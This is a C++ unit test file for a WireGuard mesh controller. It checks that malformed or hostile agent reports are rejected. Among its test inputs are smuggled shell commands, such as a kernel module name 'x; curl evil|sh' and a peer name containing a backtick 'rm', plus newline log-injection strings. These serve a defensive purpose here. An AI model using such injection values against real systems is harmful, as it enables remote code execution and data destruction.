#include "controller/fleet/check_hello.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <functional>

#include "common/error.h"
#include "common/limits.h"

namespace wgmesh::check_hello_test {
namespace {

using testing::HasSubstr;

proto::Open open_of() {
  proto::Open open;
  open.set_mesh("m");
  for (const char* peer : {"a", "b"}) {
    proto::OpenPeer& out = *open.add_peers();
    out.set_node(peer);
    out.set_endpoint(std::string(peer) + ".example:51820");
  }
  open.add_peers()->set_node("dials");
  return open;
}

proto::Hello honest() {
  proto::Hello hello;
  hello.set_agent_version("0.1");
  hello.set_kernel_release("6.1.0-28-cloud-amd64 #1");
  hello.set_machine("x86_64");
  hello.set_public_key(std::string(32, '\x21'));
  hello.set_session_key(std::string(32, '\x42'));
  proto::PresharedProof& proof = *hello.add_preshared();
  proof.set_node("dials");
  proof.set_proof(std::string(32, 'p'));
  proto::EndpointRoute& route = *hello.add_routes();
  route.set_node("a");
  route.set_address("192.0.2.1");
  route.set_mtu(1500);
  hello.add_routes()->set_node("b");
  hello.mutable_routes(1)->set_error("no such name\nat all");
  route.set_source("192.168.1.7");
  hello.set_generation(7);
  hello.add_learned()->set_node("hidden");
  hello.mutable_learned(0)->set_endpoint("203.0.113.7:51820");
  hello.add_no_links()->set_node("deeper");
  hello.mutable_no_links(0)->set_observed("deeper at 203.0.113.8");
  hello.set_stored_device_mtu(1420);
  hello.set_stored_segment_mtu(1362);
  hello.add_stored_peers("gone");
  hello.add_missing()->set_module("ip6_gre");
  hello.mutable_identity()->set_node("me");
  hello.mutable_identity()->set_network("10.9.0.0/24");
  hello.mutable_survey()->set_host_name("n1");
  proto::SurveyedAddress& own = *hello.mutable_survey()->add_addresses();
  own.set_address("192.0.2.1/24");
  own.set_mtu(1500);
  return hello;
}

struct Lie {
  const char* told;  // part of what the error says
  std::function<void(proto::Hello&)> tell;
};

std::vector<Lie> lies() {
  const auto octets = [](std::size_t count, char octet) { return std::string(count, octet); };
  std::string order_eight = octets(32, '\0');
  order_eight[0] = 1;
  return {
      {"a public key of 3 octets", [](auto& hello) { hello.set_public_key("abc"); }},
      {"a public key of 0 octets", [](auto& hello) { hello.clear_public_key(); }},
      {"everybody can compute", [=](auto& hello) { hello.set_public_key(octets(32, '\0')); }},
      {"everybody can compute", [=](auto& hello) { hello.set_public_key(order_eight); }},
      {"a session key of 33", [=](auto& hello) { hello.set_session_key(octets(33, 'k')); }},
      {"everybody can compute", [=](auto& hello) { hello.set_session_key(octets(32, '\0')); }},
      {"a preshared key for 'x'", [](auto& hello) { hello.mutable_preshared(0)->set_node("x"); }},
      {"a preshared key for 'dials'",
       [](auto& hello) { *hello.add_preshared() = hello.preshared(0); }},
      {"a proof of 1 octets", [](auto& hello) { hello.mutable_preshared(0)->set_proof("p"); }},
      {"a route to 'zz'", [](auto& hello) { hello.mutable_routes(0)->set_node("zz"); }},
      {"a route to 'dials'", [](auto& hello) { hello.mutable_routes(0)->set_node("dials"); }},
      {"a route to 'a'", [](auto& hello) { *hello.add_routes() = hello.routes(0); }},
      {"'nowhere' as the address",
       [](auto& hello) { hello.mutable_routes(0)->set_address("nowhere"); }},
      {"'' as the address", [](auto& hello) { hello.mutable_routes(0)->clear_address(); }},
      {"'127.0.1.1' as", [](auto& hello) { hello.mutable_routes(0)->set_address("127.0.1.1"); }},
      {"'0.0.0.0' as", [](auto& hello) { hello.mutable_routes(0)->set_address("0.0.0.0"); }},
      {"'255.255.255.255' as",
       [](auto& hello) { hello.mutable_routes(0)->set_address("255.255.255.255"); }},
      {"'::1' as", [](auto& hello) { hello.mutable_routes(0)->set_address("::1"); }},
      {"'ff02::1' as", [](auto& hello) { hello.mutable_routes(0)->set_address("ff02::1"); }},
      {"of 575 bytes", [](auto& hello) { hello.mutable_routes(0)->set_mtu(575); }},
      {"of 65536 bytes", [](auto& hello) { hello.mutable_routes(0)->set_mtu(65536); }},
      {"and an error", [](auto& hello) { hello.mutable_routes(1)->set_address("192.0.2.1"); }},
      {"a firewall's chain", [](auto& hello) { hello.add_inside_firewall()->set_chain("a\nb"); }},
      {"a stored MTU of WireGuard of 1", [](auto& hello) { hello.set_stored_device_mtu(1); }},
      {"a stored MTU of the segment of 1", [](auto& hello) { hello.set_stored_segment_mtu(1); }},
      {"a generation", [](auto& hello) { hello.set_generation(UINT64_MAX); }},
      {"a stored priority", [](auto& hello) { hello.set_stored_priority(65536); }},
      {"a stored peer 'b: run `rm'", [](auto& hello) { hello.add_stored_peers("b: run `rm"); }},
      {"a stored peer ''", [](auto& hello) { hello.add_stored_peers(""); }},
      {"a stored cost of '-'", [](auto& hello) { hello.add_stored_costs()->set_node("-"); }},
      {"the name of a kernel module 'x; curl evil|sh'",
       [](auto& hello) { hello.mutable_missing(0)->set_module("x; curl evil|sh"); }},
      {"an agent's version", [](auto& hello) { hello.set_agent_version("1 and more"); }},
      {"a kernel's release", [](auto& hello) { hello.set_kernel_release("6\nmesh: ok"); }},
      {"a stored plan of", [](auto& hello) { hello.mutable_identity()->set_node("a b"); }},
      {"a stored network", [](auto& hello) { hello.mutable_identity()->set_network("x"); }},
      {"'here' as the address that it sends from",
       [](auto& hello) { hello.mutable_routes(0)->set_source("here"); }},
      {"a learned endpoint of ''", [](auto& hello) { hello.add_learned(); }},
      {"'' as a learned endpoint of a", [](auto& hello) { hello.add_learned()->set_node("a"); }},
      {"'127.0.0.1:9' as a learned endpoint",
       [](auto& hello) { hello.mutable_learned(0)->set_endpoint("127.0.0.1:9"); }},
      {"a missing link to ''", [](auto& hello) { hello.add_no_links(); }},
      {"a missing link by 'x y'",
       [](auto& hello) { hello.mutable_no_links(0)->set_culprit("x y"); }},
      {"an observation of several lines",
       [](auto& hello) { hello.mutable_no_links(0)->set_observed("a\nb"); }},
      {"octets of an observation",
       [](auto& hello) { hello.mutable_no_links(0)->set_observed(std::string(5000, 'x')); }},
      {"a firewall's chain", [](auto& hello) { hello.add_firewall()->set_chain("a\nb"); }},
      {"its own name", [](auto& hello) { hello.mutable_survey()->set_host_name("a\nb"); }},
      {"who has a port", [](auto& hello) { hello.mutable_survey()->set_port_user("a\nb"); }},
      {"an address of its own", [](auto& hello) { hello.mutable_survey()->set_reached_at("\n"); }},
      {"a free port", [](auto& hello) { hello.mutable_survey()->set_free_port(65536); }},
      {"an address '192.0.2.1'",
       [](auto& hello) { hello.mutable_survey()->add_addresses()->set_address("192.0.2.1"); }},
      {"an MTU of its default route",
       [](auto& hello) { hello.mutable_survey()->set_outside_mtu(65536); }},
      {"an MTU of an interface",
       [](auto& hello) { hello.mutable_survey()->mutable_addresses(0)->set_mtu(65536); }},
      {"a number of addresses",
       [](auto& hello) {
         for (int i = 0; i < kMostSurveyedAddresses; ++i) {
           *hello.mutable_survey()->add_addresses() = hello.survey().addresses(0);
         }
       }},
  };
}

TEST(CheckHello, TakesWhatAnAgentTells) {
  EXPECT_NO_THROW(check_hello(open_of(), honest()));
  proto::Hello least;
  least.set_public_key(std::string(32, '\x21'));
  least.set_session_key(std::string(32, '\x42'));
  EXPECT_NO_THROW(check_hello({}, least));
  proto::Hello jumbo = honest();
  jumbo.mutable_routes(0)->set_mtu(65520);
  EXPECT_NO_THROW(check_hello(open_of(), jumbo));
}

TEST(CheckHello, SaysWhatCannotBe) {
  for (const Lie& lie : lies()) {
    proto::Hello hello = honest();
    lie.tell(hello);
    try {
      check_hello(open_of(), hello);
      ADD_FAILURE() << "believed: " << lie.told;
    } catch (const Error& error) {
      EXPECT_THAT(error.message(), HasSubstr(lie.told));
      EXPECT_THAT(error.cure(), HasSubstr("look at the machine"));
      EXPECT_EQ(error.id(), "node-fact-impossible");
    }
  }
}

TEST(CheckSecrets, AreOneForEachThatWasAskedFor) {
  proto::MakeSecrets wanted;
  wanted.add_peers()->set_node("a");
  wanted.add_peers()->set_node("b");
  const auto made = [](std::initializer_list<const char*> nodes, std::size_t size = 80) {
    proto::Secrets secrets;
    for (const char* node : nodes) {
      proto::SealedSecret& box = *secrets.add_sealed();
      box.set_node(node);
      box.set_box(std::string(size, 'x'));
    }
    return secrets;
  };
  EXPECT_NO_THROW(check_secrets(wanted, made({"b", "a"})));
  EXPECT_THROW(check_secrets(wanted, made({"a"})), Error);
  EXPECT_THROW(check_secrets(wanted, made({"a", "b", "b"})), Error);
  EXPECT_THROW(check_secrets(wanted, made({"a", "b", "c"})), Error);
  EXPECT_THROW(check_secrets(wanted, made({"a", "b"}, 79)), Error);
}

TEST(CheckChanges, CountsAreThoseOfAMesh) {
  const auto changes = [](unsigned listed, unsigned count, unsigned of_agent) {
    proto::Changes changes;
    for (unsigned i = 0; i < listed; ++i) { changes.add_changes(); }
    changes.set_count(count);
    changes.set_count_of_agent(of_agent);
    return changes;
  };
  EXPECT_NO_THROW(check_changes(changes(0, 0, 0)));
  EXPECT_NO_THROW(check_changes(changes(3, 0, 0)));
  EXPECT_NO_THROW(check_changes(changes(0, 16384, 16384)));
  EXPECT_THROW(check_changes(changes(0, 16385, 0)), Error);
  EXPECT_THROW(check_changes(changes(1, 16384, 0)), Error);
  EXPECT_THROW(check_changes(changes(0, 3, 4)), Error);
}

proto::Hello honest_in_short() {
  proto::Hello hello = honest();
  hello.clear_preshared();
  hello.set_short_proofs(std::string(24, 'p'));
  hello.mutable_routes()->DeleteSubrange(0, 1);
  proto::RouteGroup& group = *hello.add_route_groups();
  group.set_mtu(1500);
  group.set_address("192.0.2.1");
  group.add_peers(0);
  for (const unsigned cost : {0u, 1u, 65535u}) { hello.add_opened_costs(cost); }
  return hello;
}

TEST(CheckHello, InShortMustFitWhatWasAsked) {
  EXPECT_NO_THROW(check_hello(open_of(), honest_in_short()));
  const std::vector<Lie> lies = {
      {"25 octets of proofs for 3 peers",
       [](auto& hello) { hello.set_short_proofs(std::string(25, 'p')); }},
      {"2 stored path costs for 3 peers",
       [](auto& hello) { hello.mutable_opened_costs()->Truncate(2); }},
      {"path cost", [](auto& hello) { hello.set_opened_costs(0, 65536); }},
      {"a route to peer 3", [](auto& hello) { hello.mutable_route_groups(0)->add_peers(3); }},
      {"a route to peer 2", [](auto& hello) { hello.mutable_route_groups(0)->add_peers(2); }},
      {"a route to peer 0", [](auto& hello) { hello.mutable_route_groups(0)->add_peers(0); }},
      {"as the address of",
       [](auto& hello) { hello.mutable_route_groups(0)->set_address("127.0.0.1"); }},
      {"a path to a group", [](auto& hello) { hello.mutable_route_groups(0)->set_mtu(9); }},
      {"'here' as the address that it sends from",
       [](auto& hello) { hello.mutable_route_groups(0)->set_source("here"); }},
      {"a route to 'b'", [](auto& hello) { hello.mutable_route_groups(0)->add_peers(1); }},
  };
  for (const Lie& lie : lies) {
    proto::Hello hello = honest_in_short();
    lie.tell(hello);
    try {
      check_hello(open_of(), hello);
      ADD_FAILURE() << lie.told;
    } catch (const Error& error) { EXPECT_THAT(error.message(), HasSubstr(lie.told)); }
  }
}

}  // namespace
}  // namespace wgmesh::check_hello_test
